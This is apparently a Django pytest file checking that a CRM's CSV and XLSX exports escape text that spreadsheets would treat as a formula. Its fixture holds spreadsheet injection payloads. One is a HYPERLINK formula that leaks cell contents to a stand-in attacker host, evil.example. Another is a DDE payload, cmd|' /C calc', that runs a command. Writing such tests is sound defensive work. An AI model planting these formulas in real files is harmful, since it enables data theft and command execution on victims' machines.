"""Exports write stored text as text: nothing a user typed becomes a formula when the file is opened."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from contacts.tests.factories import ContactFactory, PhoneFactory
from crm.tests.test_imports import CONTACTS, PRODUCTS, imported
from deals.models import Product

pytestmark = pytest.mark.django_db

FORMULAS = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "first_name": "@SUM(1+1)",
    "patronymic": "+1+2",
    "payment_method": "-2+3+cmd|' /C calc'!A0",
    "delivery_method": "\tTab",
    "delivery_company": "\rReturn",
}


def download(client, url, fmt):
    response = client.get(f"{url}export/", {"format": fmt}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(body: bytes) -> list[dict]:
    rows = list(load_workbook(io.BytesIO(body)).active.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_csv_export_quotes_text_that_would_start_a_formula(api, employee):
    ContactFactory(**FORMULAS, email="plain@example.com")
    [row] = csv_rows(download(api.as_user(employee), CONTACTS, "csv"))
    labels = {"last_name": "Last name", "first_name": "First name", "patronymic": "Patronymic"}
    labels |= {"payment_method": "Payment method", "delivery_method": "Delivery method"}
    labels |= {"delivery_company": "Delivery company"}
    for name, label in labels.items():
        assert row[label] == "'" + FORMULAS[name]
    assert row["Email"] == "plain@example.com"


def test_xlsx_export_stores_text_that_would_start_a_formula_as_text(api, employee):
    ContactFactory(**FORMULAS, email="plain@example.com")
    [row] = xlsx_cells(download(api.as_user(employee), CONTACTS, "xlsx"))
    cells = [row["Last name"], row["First name"], row["Patronymic"], row["Payment method"]]
    cells += [row["Delivery method"], row["Delivery company"]]
    # XML reads a carriage return back as a line feed; the cell is still the text it was.
    assert [cell.value.replace("\n", "\r") for cell in cells] == [FORMULAS[name] for name in FORMULAS]
    assert {cell.data_type for cell in cells} == {"s"}


def test_numbers_stay_numbers(api, employee):
    Product.objects.create(sku="-A", name="Returned boots", quantity_in_stock=-3)
    client = api.as_user(employee)
    [row] = csv_rows(download(client, PRODUCTS, "csv"))
    assert (row["Quantity in stock"], row["SKU"]) == ("-3", "'-A")
    [row] = xlsx_cells(download(client, PRODUCTS, "xlsx"))
    assert (row["Quantity in stock"].value, row["Quantity in stock"].data_type) == (-3, "n")
    assert (row["SKU"].value, row["SKU"].data_type) == ("-A", "s")


def test_an_exported_file_reimports_unchanged(api, employee):
    contact = ContactFactory(
        responsible=employee, last_name="=HYPERLINK(1)", first_name="-Taras", email="t@example.com"
    )
    PhoneFactory(contact=contact, number="+380501234567")
    client = api.as_user(employee)
    for fmt in ("csv", "xlsx"):
        body = download(client, CONTACTS, fmt)
        answer = imported(client, CONTACTS, SimpleUploadedFile(f"contacts.{fmt}", body))
        assert (answer["created"], answer["updated"], answer["skipped"], answer["errors"]) == (0, 0, 1, []), fmt
    contact.refresh_from_db()
    assert (contact.last_name, contact.first_name) == ("=HYPERLINK(1)", "-Taras")
